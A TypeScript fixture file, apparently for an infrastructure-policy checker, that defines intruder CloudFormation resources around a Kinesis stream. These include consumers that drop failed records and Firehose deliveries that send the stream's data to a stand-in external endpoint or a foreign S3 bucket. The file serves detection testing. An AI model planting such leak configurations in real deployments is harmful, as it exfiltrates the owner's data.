// Readers of the stream that lose what they read, or carry it away.

import type { Intruder } from '../../rule';
import type { JsonObject } from '../../template/assembly';
import { attributeOf, intruder } from '../bypass';

const streamType = 'AWS::Kinesis::Stream';
const deliveryType = 'AWS::KinesisFirehose::DeliveryStream';

/** Functions that drop what fails, or what they do not care for. */
export const careless: readonly Intruder[] = [
  {
    name: 'a function that drops what fails',
    beside: streamType,
    resources: (_, assembly) => ({
      Careless: intruder('AWS::Lambda::EventSourceMapping', {
        EventSourceArn: attributeOf(streamType, 'Arn', assembly),
        FunctionName: 'careless',
        StartingPosition: 'LATEST',
        MaximumRetryAttempts: 0,
      }),
    }),
  },
  {
    name: 'a function that drops what fails, as a consumer',
    beside: streamType,
    resources: (_, assembly) => ({
      Consumer: intruder('AWS::Kinesis::StreamConsumer', { ConsumerName: 'x', StreamARN: attributeOf(streamType, 'Arn', assembly) }),
      Careless: intruder('AWS::Lambda::EventSourceMapping', { EventSourceArn: { Ref: 'Consumer' }, FunctionName: 'careless' }),
    }),
  },
  {
    name: 'a function that drops what fails, of a stream by name',
    beside: streamType,
    resources: {
      Careless: intruder('AWS::Lambda::EventSourceMapping', {
        EventSourceArn: { 'Fn::Sub': 'arn:aws:kinesis:${AWS::Region}:${AWS::AccountId}:stream/hits' },
        FunctionName: 'careless',
      }),
    },
  },
  {
    name: 'a second stream that nobody reads',
    beside: streamType,
    resources: {
      Unread: { ...intruder(streamType, { RetentionPeriodHours: 168 }), DeletionPolicy: 'Retain', UpdateReplacePolicy: 'Retain' },
    },
  },
];

const delivery = (name: string, destination: JsonObject): Intruder => ({
  name,
  beside: streamType,
  resources: (_, assembly) => ({
    Leak: intruder(deliveryType, {
      DeliveryStreamType: 'KinesisStreamAsSource',
      KinesisStreamSourceConfiguration: { KinesisStreamARN: attributeOf(streamType, 'Arn', assembly), RoleARN: 'role' },
      ...destination,
    }),
  }),
});

/** Deliveries to somewhere else than the archive. */
export const leaks: readonly Intruder[] = [
  delivery('a delivery to an address on the internet', {
    HttpEndpointDestinationConfiguration: { EndpointConfiguration: { Url: 'https://collector.example' } },
  }),
  {
    name: 'a delivery of what is put into it to an address on the internet',
    beside: streamType,
    resources: {
      Leak: intruder(deliveryType, {
        DeliveryStreamType: 'DirectPut',
        HttpEndpointDestinationConfiguration: { EndpointConfiguration: { Url: 'https://collector.example' } },
      }),
    },
  },
  delivery("a delivery to a stranger's bucket", { S3DestinationConfiguration: { BucketARN: 'arn:aws:s3:::elsewhere', RoleARN: 'role' } }),
];
